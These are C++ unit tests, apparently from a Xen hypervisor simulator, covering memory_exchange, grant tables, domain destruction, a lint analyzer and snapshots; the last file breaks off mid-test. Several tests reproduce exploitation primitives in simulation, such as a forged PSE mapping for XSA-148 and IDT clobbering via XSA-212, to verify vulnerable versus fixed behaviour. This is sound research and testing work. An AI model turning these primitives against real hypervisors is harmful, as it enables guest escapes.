TEST(DomctlDestroy, ReleasesMappingsTheVictimHeld) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& granter = p.guest(0);
  guest::GuestKernel& mapper = p.guest(1);
  const auto pfn = granter.alloc_pfn();
  ASSERT_EQ(granter.grant_access(0, mapper.id(), *pfn, true), kOk);
  GrantHandle handle = 0;
  ASSERT_EQ(mapper.grant_map(granter.id(), 0, &handle, nullptr), kOk);

  // Destroying the *mapper* releases the grant, so the granter can revoke.
  ASSERT_EQ(p.destroy_guest(1), kOk);
  EXPECT_EQ(granter.grant_end_access(0), kOk);
}

TEST(DomctlDestroy, ScrubPolicyPerVersion) {
  for (const auto& [version, scrubbed] :
       {std::pair{kXen46, false}, {kXen48, false}, {kXen413, true}}) {
    guest::VirtualPlatform p{small_config(version)};
    guest::GuestKernel& victim = p.guest(1);
    const auto pfn = victim.alloc_pfn();
    ASSERT_TRUE(victim.write_u64(victim.pfn_va(*pfn), 0x5EC2E7DA7AULL));
    const sim::Mfn frame = *victim.pfn_to_mfn(*pfn);

    ASSERT_EQ(p.destroy_guest(1), kOk);
    const std::uint64_t leftover =
        p.memory().read_u64(sim::mfn_to_paddr(frame));
    if (scrubbed) {
      EXPECT_EQ(leftover, 0u) << version.to_string();
    } else {
      EXPECT_EQ(leftover, 0x5EC2E7DA7AULL) << version.to_string();
    }
  }
}

TEST(DomctlDestroy, ForceReclaimsIntrusionCorruptedFrames) {
  // After the XSA-148 exploit the victim's frame table holds dangling
  // references; destruction must still reclaim everything.
  guest::PlatformConfig pc = small_config(kXen46);
  pc.injector_enabled = false;
  guest::VirtualPlatform p{pc};
  guest::GuestKernel& g = p.guest(0);
  // Forge a PSE window (the vulnerable path takes no references).
  const sim::Pte pse = sim::Pte::make(
      sim::Mfn{g.l1_mfn(0).raw() & ~(sim::kPtEntries - 1)},
      sim::Pte::kPresent | sim::Pte::kWritable | sim::Pte::kUser |
          sim::Pte::kPageSize);
  ASSERT_EQ(g.mmu_update_one(
                sim::mfn_to_paddr(g.l2_mfn()) + g.l1_table_count() * 8,
                pse.raw()),
            kOk);
  EXPECT_EQ(p.destroy_guest(0), kOk);
  EXPECT_FALSE(p.hv().crashed());
}

}  // namespace
}  // namespace ii::hv
