// memory_exchange semantics and the XSA-212 validation site.
#include <gtest/gtest.h>

#include "hv/hypervisor.hpp"

namespace ii::hv {
namespace {

struct Fixture {
  explicit Fixture(XenVersion version)
      : mem{8192}, hv{mem, VersionPolicy::for_version(version)} {
    dom0 = hv.create_domain("dom0", true, 64);
    guest = hv.create_domain("guest01", false, 64);
  }

  sim::Mfn guest_mfn(std::uint64_t pfn) {
    return *hv.domain(guest).p2m(sim::Pfn{pfn});
  }
  long unmap(std::uint64_t pfn) {
    const sim::Mfn l1 = guest_mfn(60);
    const MmuUpdate req{(sim::mfn_to_paddr(l1) + pfn * 8).raw(), 0};
    return hv.hypercall_mmu_update(guest, {&req, 1});
  }
  /// A guest-writable buffer VA (pfn 20's directmap address).
  sim::Vaddr buffer_va() {
    return sim::Vaddr{kGuestKernelBase + 20 * sim::kPageSize};
  }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{}, guest{};
};

TEST(MemoryExchange, HappyPathReplacesFrameAndReportsMfn) {
  Fixture f{kXen48};
  ASSERT_EQ(f.unmap(5), kOk);
  const sim::Mfn before = f.guest_mfn(5);

  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{5}};
  exch.out_extent_start = f.buffer_va();
  ASSERT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kOk);
  EXPECT_EQ(exch.nr_exchanged, 1u);

  const sim::Mfn after = f.guest_mfn(5);
  EXPECT_NE(after, before);
  EXPECT_EQ(f.hv.frames().info(after).owner, f.guest);
  EXPECT_EQ(f.hv.frames().info(before).owner, kDomInvalid);  // freed

  // The replacement MFN was written through the guest pointer.
  const auto mfn20 = f.guest_mfn(20);
  std::uint64_t reported = 0;
  std::memcpy(&reported, f.mem.frame_bytes(mfn20).data(), 8);
  EXPECT_EQ(reported, after.raw());
}

TEST(MemoryExchange, ProgressCounterOffsetsOutput) {
  Fixture f{kXen48};
  ASSERT_EQ(f.unmap(5), kOk);
  ASSERT_EQ(f.unmap(6), kOk);
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{5}, sim::Pfn{6}};
  exch.out_extent_start = f.buffer_va();
  ASSERT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kOk);
  EXPECT_EQ(exch.nr_exchanged, 2u);
  const auto bytes = f.mem.frame_bytes(f.guest_mfn(20));
  std::uint64_t r0 = 0, r1 = 0;
  std::memcpy(&r0, bytes.data(), 8);
  std::memcpy(&r1, bytes.data() + 8, 8);
  EXPECT_EQ(r0, f.guest_mfn(5).raw());
  EXPECT_EQ(r1, f.guest_mfn(6).raw());
}

TEST(MemoryExchange, MappedPageIsBusy) {
  Fixture f{kXen48};
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{5}};  // still mapped writable
  exch.out_extent_start = f.buffer_va();
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEBUSY);
  EXPECT_EQ(exch.nr_exchanged, 0u);
}

TEST(MemoryExchange, PageTablePageIsBusy) {
  Fixture f{kXen48};
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{63}};  // the L4
  exch.out_extent_start = f.buffer_va();
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEBUSY);
}

TEST(MemoryExchange, UnknownPfnRejected) {
  Fixture f{kXen48};
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{999}};
  exch.out_extent_start = f.buffer_va();
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEINVAL);
}

TEST(MemoryExchange, Xsa212FixedRejectsHypervisorPointer) {
  for (const auto version : {kXen48, kXen413}) {
    Fixture f{version};
    ASSERT_EQ(f.unmap(5), kOk);
    MemoryExchange exch{};
    exch.in_extents = {sim::Pfn{5}};
    exch.out_extent_start = f.hv.sidt();  // IDT linear address
    EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEFAULT)
        << version.to_string();
    EXPECT_EQ(exch.nr_exchanged, 0u);
    // The IDT is untouched.
    EXPECT_TRUE(f.hv.idt().read(0).well_formed());
  }
}

TEST(MemoryExchange, Xsa212VulnerableWritesThroughHypervisorPointer) {
  Fixture f{kXen46};
  ASSERT_EQ(f.unmap(5), kOk);
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{5}};
  exch.out_extent_start =
      sim::Vaddr{f.hv.sidt().raw() + 14 * sim::Idt::kGateBytes};
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kOk);
  // The page-fault gate got clobbered with an MFN value.
  EXPECT_FALSE(f.hv.idt().read(14).well_formed());
}

TEST(MemoryExchange, Xsa212FixedRejectsReadOnlyGuestPointer) {
  // Even a guest-range pointer must be guest-writable: aiming at the own
  // (read-only) L4 mapping fails on fixed versions.
  Fixture f{kXen48};
  ASSERT_EQ(f.unmap(5), kOk);
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{5}};
  exch.out_extent_start = sim::Vaddr{kGuestKernelBase + 63 * sim::kPageSize};
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEFAULT);
}

TEST(MemoryExchange, VulnerableStillFaultsOnUnmappedPointer) {
  Fixture f{kXen46};
  ASSERT_EQ(f.unmap(5), kOk);
  MemoryExchange exch{};
  exch.in_extents = {sim::Pfn{5}};
  exch.out_extent_start = sim::Vaddr{0xDEAD00000000ULL};
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEFAULT);
}

TEST(MemoryExchange, RepeatedExchangeCyclesMfnLowBytes) {
  // The allocator predictability the grooming loop depends on: across 256
  // exchanges the low byte of the fresh MFN takes every value.
  Fixture f{kXen48};
  ASSERT_EQ(f.unmap(5), kOk);
  std::set<std::uint8_t> seen;
  for (int i = 0; i < 256; ++i) {
    MemoryExchange exch{};
    exch.in_extents = {sim::Pfn{5}};
    exch.out_extent_start = f.buffer_va();
    ASSERT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kOk);
    seen.insert(static_cast<std::uint8_t>(f.guest_mfn(5).raw() & 0xFF));
  }
  EXPECT_EQ(seen.size(), 256u);
}

}  // namespace
}  // namespace ii::hv
