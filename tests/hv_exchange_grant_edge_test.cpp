// Regression tests seeded from depth-2 bounded model-check enumeration
// (src/analysis): edge cases of memory_exchange, unpin and the grant-table
// lifecycle that the hand-written use cases never drive.
#include <gtest/gtest.h>

#include "hv/audit.hpp"
#include "hv/errors.hpp"
#include "hv/hypervisor.hpp"
#include "hv/layout.hpp"
#include "hv/recovery.hpp"
#include "hv/snapshot.hpp"

namespace ii::hv {
namespace {

struct Fixture {
  explicit Fixture(XenVersion version = kXen48)
      : mem{256}, hv{mem, VersionPolicy::for_version(version)} {
    dom0 = hv.create_domain("dom0", true, 16);
    guest = hv.create_domain("guest01", false, 16);
  }
  sim::Mfn guest_mfn(std::uint64_t pfn) {
    return *hv.domain(guest).p2m(sim::Pfn{pfn});
  }
  long mmu_update(sim::Mfn table, unsigned slot, std::uint64_t val) {
    const MmuUpdate req{sim::mfn_to_paddr(table).raw() + 8ULL * slot, val};
    return hv.hypercall_mmu_update(guest, std::span{&req, 1});
  }
  /// The guest-kernel L1 table (maps pfns 0..15 of the 16-page domain).
  sim::Mfn l1() { return guest_mfn(12); }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{}, guest{};
};

// ------------------------------------------------------------------ exchange

TEST(ExchangeEdge, StillMappedPageIsBusyAndStateUnchanged) {
  Fixture f;
  const HvSnapshot before = f.hv.snapshot();
  MemoryExchange exch{{kFirstFreePfn},
                      guest_directmap_vaddr(sim::Pfn{5}), 0};
  EXPECT_EQ(kEBUSY, f.hv.hypercall_memory_exchange(f.guest, exch));
  EXPECT_EQ(0u, exch.nr_exchanged);
  EXPECT_EQ(before.hash, f.hv.state_hash());
}

TEST(ExchangeEdge, CheckedPathFaultsButAlreadyMutatedState) {
  // Depth-2 enumeration surfaced this 4.8 wrinkle: exchange with a hostile
  // output pointer is *refused* (the XSA-212 fix adds the range check), but
  // the refusal happens after the frame swap and P2M update — exactly like
  // real Xen, where the guest copy-back is the last step. The erroneous
  // output write is prevented; the guest's own exchange still happened.
  Fixture f{kXen48};
  const sim::Mfn old_mfn = f.guest_mfn(kFirstFreePfn.raw());
  ASSERT_EQ(kOk, f.mmu_update(f.l1(), kFirstFreePfn.raw(), 0));

  MemoryExchange exch{{kFirstFreePfn}, directmap_vaddr(f.hv.idt_base()), 0};
  EXPECT_EQ(kEFAULT, f.hv.hypercall_memory_exchange(f.guest, exch));

  // The page was re-provisioned even though the hypercall failed...
  const sim::Mfn new_mfn = f.guest_mfn(kFirstFreePfn.raw());
  EXPECT_NE(old_mfn, new_mfn);
  // ...but no invariant is violated: the IDT was never written.
  EXPECT_TRUE(InvariantAuditor{f.hv}.audit().clean());
}

TEST(ExchangeEdge, UncheckedPathClobbersIdtOn46) {
  Fixture f{kXen46};
  ASSERT_EQ(kOk, f.mmu_update(f.l1(), kFirstFreePfn.raw(), 0));
  MemoryExchange exch{{kFirstFreePfn}, directmap_vaddr(f.hv.idt_base()), 0};
  EXPECT_EQ(kOk, f.hv.hypercall_memory_exchange(f.guest, exch));
  EXPECT_EQ(1u, exch.nr_exchanged);
  const auto report = InvariantAuditor{f.hv}.audit();
  EXPECT_TRUE(report.violated(Invariant::IdtIntegrity));
}

TEST(ExchangeEdge, OutputOverOwnRoMappedTableIsRefusedEverywhere) {
  // Output pointer aimed at the guest's own L1 page: the replacement-MFN
  // write would go through a read-only mapping of a validated table, so
  // even the unchecked 4.6 path must refuse at the write itself.
  for (const XenVersion version : {kXen46, kXen48, kXen413}) {
    Fixture f{version};
    ASSERT_EQ(kOk, f.mmu_update(f.l1(), kFirstFreePfn.raw(), 0));
    MemoryExchange exch{{kFirstFreePfn},
                        guest_directmap_vaddr(sim::Pfn{12}), 0};
    EXPECT_EQ(kEFAULT, f.hv.hypercall_memory_exchange(f.guest, exch))
        << version.to_string();
    EXPECT_TRUE(InvariantAuditor{f.hv}.audit().clean()) << version.to_string();
  }
}

// ---------------------------------------------------------------- pin/unpin

TEST(UnpinEdge, LoadedBaseptrCannotBeUnpinned) {
  // The pin folds the CR3 type reference into itself (hypervisor.hpp), so
  // unpinning the live root must refuse rather than cascade-invalidate the
  // running domain's tree.
  Fixture f;
  const sim::Mfn cr3 = f.hv.domain(f.guest).cr3();
  EXPECT_EQ(kEBUSY, f.hv.hypercall_mmuext_op(
                        f.guest, MmuExtOp{MmuExtCmd::UnpinTable, cr3}));
  // Still validated, still the loaded root.
  EXPECT_TRUE(f.hv.frames().info(cr3).validated);
  EXPECT_EQ(cr3, f.hv.domain(f.guest).cr3());
  EXPECT_TRUE(InvariantAuditor{f.hv}.audit().clean());
}

TEST(UnpinEdge, UnpinnedNonRootTableIsReclaimable) {
  Fixture f;
  // Pin a zeroed data page as an L1, then unpin it again: the frame must
  // return to writable-mappable (type-free) state.
  ASSERT_EQ(kOk, f.mmu_update(f.l1(), kFirstFreePfn.raw(), 0));
  const sim::Mfn mfn = f.guest_mfn(kFirstFreePfn.raw());
  ASSERT_EQ(kOk, f.hv.hypercall_mmuext_op(
                     f.guest, MmuExtOp{MmuExtCmd::PinL1Table, mfn}));
  EXPECT_EQ(PageType::L1, f.hv.frames().info(mfn).type);
  ASSERT_EQ(kOk, f.hv.hypercall_mmuext_op(
                     f.guest, MmuExtOp{MmuExtCmd::UnpinTable, mfn}));
  EXPECT_EQ(kOk,
            f.mmu_update(f.l1(), kFirstFreePfn.raw(),
                         sim::Pte::make(mfn, sim::Pte::kPresent |
                                                 sim::Pte::kWritable |
                                                 sim::Pte::kUser)
                             .raw()));
  EXPECT_TRUE(InvariantAuditor{f.hv}.audit().clean());
}

// -------------------------------------------------------------------- grants

TEST(GrantEdge, DowngradeLeaksStatusFrameOn48ButNot413) {
  Fixture old{kXen48};
  ASSERT_EQ(kOk, old.hv.grants().set_version(old.guest, 2));
  ASSERT_EQ(kOk, old.hv.grants().set_version(old.guest, 1));
  const auto leaked = InvariantAuditor{old.hv}.audit();
  EXPECT_TRUE(leaked.violated(Invariant::GrantLifecycle));

  Fixture fixed{kXen413};
  ASSERT_EQ(kOk, fixed.hv.grants().set_version(fixed.guest, 2));
  ASSERT_EQ(kOk, fixed.hv.grants().set_version(fixed.guest, 1));
  EXPECT_TRUE(InvariantAuditor{fixed.hv}.audit().clean());
}

TEST(GrantEdge, EndAccessWhileMappedIsBusy) {
  Fixture f;
  ASSERT_EQ(kOk, f.hv.grants().grant_access(f.guest, 0, f.dom0,
                                            kFirstFreePfn, false));
  GrantHandle handle{};
  sim::Mfn frame{};
  ASSERT_EQ(kOk,
            f.hv.grants().map_grant(f.dom0, f.guest, 0, &handle, &frame));
  EXPECT_EQ(frame, f.guest_mfn(kFirstFreePfn.raw()));
  EXPECT_EQ(kEBUSY, f.hv.grants().end_access(f.guest, 0));
  ASSERT_EQ(kOk, f.hv.grants().unmap_grant(f.dom0, handle));
  EXPECT_EQ(kOk, f.hv.grants().end_access(f.guest, 0));
}

}  // namespace
}  // namespace ii::hv
