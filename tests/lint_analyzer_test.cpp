// Fixture-driven tests for the ii-analyze static analyzer (DESIGN.md §15).
//
// Each rule has a known-bad fixture whose violating lines carry an
// `EXPECT[<rule>]` marker comment and a known-clean fixture with no
// markers; the harness mounts the fixtures into an in-memory SourceModel
// and asserts the analyzer flags exactly the marked (file, line) pairs —
// nothing more, nothing less. Registry-backed rules mount stub registry
// files at the canonical src/{core,obs}/ paths. The tree-level tests run
// the real analyzer over the real repo: the tree must be clean, the
// builtin policy must match tools/ii_analyze.policy, and the JSON render
// must be byte-identical across runs.

#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

#include "lint/analyzer.hpp"

namespace {

using ii::lint::analyze;
using ii::lint::AnalysisResult;
using ii::lint::Policy;
using ii::lint::render_json;
using ii::lint::render_text;
using ii::lint::SourceModel;

std::string fixture_file(const std::string& name) {
  return std::string{II_LINT_FIXTURE_DIR} + "/" + name;
}

std::string repo_root() { return II_LINT_REPO_ROOT; }

std::string slurp(const std::string& path) {
  std::ifstream in{path, std::ios::binary};
  EXPECT_TRUE(in.good()) << "missing " << path;
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

/// The policy the fixture tree runs under: allowlists point at fixture
/// paths, mirroring the shape (not the content) of tools/ii_analyze.policy.
Policy fixture_policy() {
  Policy p;
  p.add_allow("frame-bookkeeping", "src/allowlisted/");
  p.add_allow("frame-state-writes", "src/allowlisted/");
  p.add_allow("pte-bit-twiddling", "src/sim/pte.");
  p.add_allow("dirty-tracking", "src/sim/phys_mem.");
  return p;
}

struct Mount {
  std::string path;     ///< repo-relative path the content is mounted at
  std::string fixture;  ///< file name under tests/lint_fixtures/
};

struct CaseResult {
  AnalysisResult analysis;
  std::set<std::pair<std::string, std::uint32_t>> flagged;
  std::set<std::pair<std::string, std::uint32_t>> expected;
  std::size_t expected_count = 0;
};

/// Mount the fixtures, run the named rules (all rules when empty), and
/// collect both the flagged (file, line) pairs and the EXPECT[<rule>]
/// markers harvested from the mounted sources.
CaseResult run_case(const std::vector<Mount>& mounts,
                    const std::vector<std::string>& rules) {
  CaseResult r;
  SourceModel model;
  std::map<std::string, std::string> contents;
  for (const Mount& m : mounts) {
    std::string text = slurp(fixture_file(m.fixture));
    model.add_file(m.path, text);
    contents.emplace(m.path, std::move(text));
  }
  model.finalize();
  r.analysis = analyze(model, fixture_policy(), rules);
  for (const auto& f : r.analysis.findings) {
    r.flagged.insert({f.file, f.line});
  }
  for (const std::string& rule : rules) {
    const std::string marker = "EXPECT[" + rule + "]";
    for (const auto& [path, text] : contents) {
      std::istringstream lines{text};
      std::string line;
      for (std::uint32_t n = 1; std::getline(lines, line); ++n) {
        if (line.find(marker) != std::string::npos) {
          r.expected.insert({path, n});
          ++r.expected_count;
        }
      }
    }
  }
  return r;
}

/// Flagged lines must equal marked lines, one finding per marked line.
void expect_exact(const CaseResult& r) {
  EXPECT_EQ(r.flagged, r.expected) << render_text(r.analysis);
  EXPECT_EQ(r.analysis.findings.size(), r.expected_count)
      << render_text(r.analysis);
}

/// Run one bad/clean fixture pair mounted at src/fixture.cpp. Fixture
/// file names spell the rule with underscores.
void expect_pair(const std::string& rule) {
  std::string stem = rule;
  for (char& c : stem) {
    if (c == '-') c = '_';
  }
  expect_exact(run_case({{"src/fixture.cpp", stem + "_bad.cpp"}}, {rule}));
  const CaseResult clean =
      run_case({{"src/fixture.cpp", stem + "_clean.cpp"}}, {rule});
  EXPECT_TRUE(clean.analysis.findings.empty())
      << render_text(clean.analysis);
}

/// The complete, defect-free registry stub set plus an instrumentation
/// site that exercises every registered name.
std::vector<Mount> registry_stubs() {
  return {{"src/core/chaos.cpp", "stubs/chaos.cpp"},
          {"src/obs/span.hpp", "stubs/span.hpp"},
          {"src/obs/span.cpp", "stubs/span.cpp"},
          {"src/obs/trace.hpp", "stubs/trace.hpp"},
          {"src/obs/trace.cpp", "stubs/trace.cpp"},
          {"src/core/fuzz.hpp", "stubs/fuzz.hpp"},
          {"src/instrumented.cpp", "registry_closure_fixture.cpp"}};
}

// ------------------------------------------------- ported rules (1..5, S1)

TEST(LintFixtures, FrameBookkeeping) { expect_pair("frame-bookkeeping"); }

TEST(LintFixtures, TraceCategory) { expect_pair("trace-category"); }

TEST(LintFixtures, PteBitTwiddling) { expect_pair("pte-bit-twiddling"); }

TEST(LintFixtures, DirtyTracking) { expect_pair("dirty-tracking"); }

TEST(LintFixtures, RngSeedTruncation) { expect_pair("rng-seed-truncation"); }

TEST(LintFixtures, FrameStateWrites) { expect_pair("frame-state-writes"); }

TEST(LintFixtures, Determinism) { expect_pair("determinism"); }

TEST(LintFixtures, VisitedOwnership) { expect_pair("visited-ownership"); }

// ------------------------------------------------------- policy behaviour

TEST(LintFixtures, AllowlistedPathsAreExempt) {
  // The same bad fixtures mounted on allowlisted paths produce nothing.
  const CaseResult r = run_case(
      {{"src/allowlisted/writes.cpp", "frame_state_writes_bad.cpp"},
       {"src/allowlisted/pages.cpp", "frame_bookkeeping_bad.cpp"},
       {"src/sim/pte.cpp", "pte_bit_twiddling_bad.cpp"},
       {"src/sim/phys_mem.cpp", "dirty_tracking_bad.cpp"}},
      {"frame-state-writes", "frame-bookkeeping", "pte-bit-twiddling",
       "dirty-tracking"});
  EXPECT_TRUE(r.analysis.findings.empty()) << render_text(r.analysis);
}

TEST(LintFixtures, DeterminismScopeConfinesTheRule) {
  SourceModel model;
  model.add_file("src/util/helper.cpp",
                 slurp(fixture_file("determinism_bad.cpp")));
  model.finalize();
  Policy p;
  p.add_scope("determinism", "src/core/");
  const AnalysisResult res = analyze(model, p, {"determinism"});
  EXPECT_TRUE(res.findings.empty()) << render_text(res);
}

TEST(LintFixtures, VisitedOwnershipScopeAndOwnerExemption) {
  // Under the checked-in shape of the policy the rule is confined to
  // src/analysis/ with the ShardedVisited implementation allowlisted:
  // the bad fixture is silent both outside the scope and inside the owner.
  Policy p;
  p.add_scope("visited-ownership", "src/analysis/");
  p.add_allow("visited-ownership", "src/analysis/visited.");
  const std::string bad = slurp(fixture_file("visited_ownership_bad.cpp"));
  for (const char* path : {"src/hv/helper.cpp", "src/analysis/visited.cpp"}) {
    SourceModel model;
    model.add_file(path, bad);
    model.finalize();
    const AnalysisResult res = analyze(model, p, {"visited-ownership"});
    EXPECT_TRUE(res.findings.empty()) << path << "\n" << render_text(res);
  }
  // ...and loud on any other analysis translation unit.
  SourceModel model;
  model.add_file("src/analysis/model_checker.cpp", bad);
  model.finalize();
  const AnalysisResult res = analyze(model, p, {"visited-ownership"});
  EXPECT_EQ(res.findings.size(), 6u) << render_text(res);
}

// ------------------------------------------------------- registry rules

TEST(LintFixtures, SpanRenderNameBad) {
  expect_exact(run_case(
      {{"src/core/chaos.cpp", "stubs/chaos.cpp"},
       {"src/obs/span.hpp", "stubs/span.hpp"},
       {"src/obs/span.cpp", "stubs/span.cpp"},
       {"src/obs/trace.hpp", "stubs/trace_missing_panic.hpp"},
       {"src/obs/trace.cpp", "stubs/trace_missing_panic.cpp"},
       {"src/instrumented.cpp", "registry_closure_fixture.cpp"},
       {"src/fixture.cpp", "span_render_name_bad.cpp"}},
      {"span-render-name"}));
}

TEST(LintFixtures, SpanRenderNameClean) {
  auto mounts = registry_stubs();
  mounts.push_back({"src/fixture.cpp", "span_render_name_clean.cpp"});
  const CaseResult r = run_case(mounts, {"span-render-name"});
  EXPECT_TRUE(r.analysis.findings.empty()) << render_text(r.analysis);
}

TEST(LintFixtures, ChaosPointRegistryBad) {
  expect_exact(run_case(
      {{"src/core/chaos.cpp", "stubs/chaos.cpp"},
       {"src/fixture.cpp", "chaos_point_registry_bad.cpp"}},
      {"chaos-point-registry"}));
}

TEST(LintFixtures, ChaosPointRegistryClean) {
  const CaseResult r = run_case(
      {{"src/core/chaos.cpp", "stubs/chaos.cpp"},
       {"src/fixture.cpp", "chaos_point_registry_clean.cpp"}},
      {"chaos-point-registry"});
  EXPECT_TRUE(r.analysis.findings.empty()) << render_text(r.analysis);
}

TEST(LintFixtures, RegistryClosureBad) {
  expect_exact(run_case(
      {{"src/core/chaos.cpp", "stubs/chaos_closure_bad.cpp"},
       {"src/obs/span.hpp", "stubs/span_closure_bad.hpp"},
       {"src/obs/span.cpp", "stubs/span_closure_bad.cpp"},
       {"src/obs/trace.hpp", "stubs/trace_badcount.hpp"},
       {"src/obs/trace.cpp", "stubs/trace_dup_case.cpp"},
       {"src/core/fuzz.hpp", "stubs/fuzz_badcount.hpp"},
       {"src/instrumented.cpp", "registry_closure_fixture.cpp"}},
      {"registry-closure"}));
}

TEST(LintFixtures, RegistryClosureClean) {
  const CaseResult r = run_case(registry_stubs(), {"registry-closure"});
  EXPECT_TRUE(r.analysis.findings.empty()) << render_text(r.analysis);
}

// ------------------------------------- false positives and suppressions

TEST(LintFixtures, CommentAndStringPatternsStaySilent) {
  // All rules at once over the grep-bait fixture: the patterns live only
  // in comments and string literals, so the analyzer must report nothing
  // (the old grep fired on several of these lines).
  auto mounts = registry_stubs();
  mounts.push_back({"src/fp.cpp", "comment_string_fp.cpp"});
  const CaseResult r = run_case(mounts, {});
  EXPECT_TRUE(r.analysis.findings.empty()) << render_text(r.analysis);
  EXPECT_EQ(r.analysis.suppressed, 0u);
}

TEST(LintFixtures, SuppressionCoversOwnLineAndNextCodeLine) {
  const CaseResult r =
      run_case({{"src/fixture.cpp", "suppressed.cpp"}}, {"determinism"});
  expect_exact(r);  // only the unsuppressed line remains flagged
  EXPECT_EQ(r.analysis.suppressed, 2u);
}

// ------------------------------------------------------------ lexer unit

TEST(LintLexer, EqualityNeverSplitsIntoAssignments) {
  const auto lf = ii::lint::lex("if (a == b) c += d; e = f;");
  std::size_t eq = 0;
  std::size_t plain = 0;
  for (const auto& t : lf.tokens) {
    if (t.text == "==") ++eq;
    if (t.text == "=") ++plain;
  }
  EXPECT_EQ(eq, 1u);
  EXPECT_EQ(plain, 1u);
}

TEST(LintLexer, RawStringBodyIsOneStringToken) {
  const auto lf = ii::lint::lex("auto s = R\"x(pi.type = 3)x\"; int y;");
  std::size_t strs = 0;
  for (const auto& t : lf.tokens) {
    if (t.kind == ii::lint::TokKind::Str) {
      ++strs;
      EXPECT_EQ(t.text, "pi.type = 3");
    }
    EXPECT_NE(t.text, "type");  // the body never reaches the ident stream
  }
  EXPECT_EQ(strs, 1u);
}

TEST(LintLexer, TokensCarryLineAndColumn) {
  const auto lf = ii::lint::lex("int a;\n  b = 2;\n");
  ASSERT_GE(lf.tokens.size(), 4u);
  EXPECT_EQ(lf.tokens[0].line, 1u);
  EXPECT_EQ(lf.tokens[0].col, 1u);
  EXPECT_EQ(lf.tokens[3].text, "b");
  EXPECT_EQ(lf.tokens[3].line, 2u);
  EXPECT_EQ(lf.tokens[3].col, 3u);
}

// ----------------------------------------------------------- policy unit

TEST(LintPolicy, ParseSectionsAndPrefixes) {
  const Policy p = Policy::parse(
      "# comment\n"
      "[allow frame-bookkeeping]\n"
      "src/hv/\n"
      "\n"
      "[scope determinism]\n"
      "src/core/\n");
  EXPECT_TRUE(p.allowed("frame-bookkeeping", "src/hv/memory.cpp"));
  EXPECT_FALSE(p.allowed("frame-bookkeeping", "src/sim/pte.cpp"));
  EXPECT_TRUE(p.in_scope("determinism", "src/core/report.cpp"));
  EXPECT_FALSE(p.in_scope("determinism", "src/sim/pte.cpp"));
  // A rule with no scope section applies everywhere.
  EXPECT_TRUE(p.in_scope("frame-bookkeeping", "src/anything.cpp"));
}

// ------------------------------------------------------ whole-tree gates

TEST(LintTree, RepoIsCleanUnderCheckedInPolicy) {
  const SourceModel model = SourceModel::load_tree(repo_root());
  const Policy policy =
      Policy::parse(slurp(repo_root() + "/tools/ii_analyze.policy"));
  const AnalysisResult res = analyze(model, policy);
  EXPECT_TRUE(res.findings.empty()) << render_text(res);
  EXPECT_GT(res.files_scanned, 50u);
}

TEST(LintTree, BuiltinPolicyStaysInSyncWithCheckedInFile) {
  const SourceModel model = SourceModel::load_tree(repo_root());
  const AnalysisResult from_file = analyze(
      model, Policy::parse(slurp(repo_root() + "/tools/ii_analyze.policy")));
  const AnalysisResult builtin = analyze(model, Policy::builtin());
  EXPECT_EQ(render_json(from_file), render_json(builtin))
      << "tools/ii_analyze.policy and Policy::builtin() have drifted";
}

TEST(LintTree, JsonRenderIsByteIdenticalAcrossRuns) {
  const std::string a = render_json(
      analyze(SourceModel::load_tree(repo_root()), Policy::builtin()));
  const std::string b = render_json(
      analyze(SourceModel::load_tree(repo_root()), Policy::builtin()));
  EXPECT_EQ(a, b);
}

}  // namespace
