// Snapshot / restore / state_hash: the exploration substrate the bounded
// model checker (src/analysis) is built on. These tests pin the properties
// the checker relies on: restore is exact (hash round-trips), the hash is
// canonical across bookkeeping-order differences, and distinct states hash
// apart.
#include <gtest/gtest.h>

#include "hv/audit.hpp"
#include "hv/hypervisor.hpp"
#include "hv/layout.hpp"
#include "hv/snapshot.hpp"

namespace ii::hv {
namespace {

struct Fixture {
  explicit Fixture(XenVersion version = kXen46)
      : mem{256}, hv{mem, VersionPolicy::for_version(version)} {
    dom0 = hv.create_domain("dom0", true, 16);
    guest = hv.create_domain("guest01", false, 16);
  }
  sim::Mfn guest_mfn(std::uint64_t pfn) {
    return *hv.domain(guest).p2m(sim::Pfn{pfn});
  }
  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{}, guest{};
};

long mmu_update(Hypervisor& hv, DomainId caller, sim::Mfn table,
                unsigned slot, std::uint64_t val) {
  const MmuUpdate req{sim::mfn_to_paddr(table).raw() + 8ULL * slot, val};
  return hv.hypercall_mmu_update(caller, std::span{&req, 1});
}

TEST(Snapshot, HashIsDeterministic) {
  Fixture f;
  EXPECT_EQ(f.hv.state_hash(), f.hv.state_hash());

  // A second machine built identically hashes identically.
  Fixture g;
  EXPECT_EQ(f.hv.state_hash(), g.hv.state_hash());
}

TEST(Snapshot, RestoreRoundTripsEverything) {
  Fixture f;
  const HvSnapshot snap = f.hv.snapshot();
  EXPECT_EQ(snap.hash, f.hv.state_hash());

  // Mutate broadly: a legal PTE write, a grant version switch, an event
  // channel, then a direct memory scribble.
  const sim::Mfn l1 = f.guest_mfn(12);
  ASSERT_EQ(kOk, mmu_update(f.hv, f.guest, l1, 4, 0));
  ASSERT_EQ(kOk, f.hv.grants().set_version(f.guest, 2));
